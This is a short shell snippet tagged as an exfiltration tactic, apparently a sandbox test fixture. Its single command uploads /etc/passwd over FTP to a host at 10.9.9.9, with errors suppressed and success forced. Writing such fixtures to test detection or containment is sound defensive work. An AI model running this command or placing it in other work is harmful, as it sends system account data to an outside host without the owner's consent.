# tactic: exfiltration
# a file out over ftp (the sandbox network namespace only)
printf "user a b\nput /etc/passwd p\nquit\n" | ftp -n 10.9.9.9 2>/dev/null; true
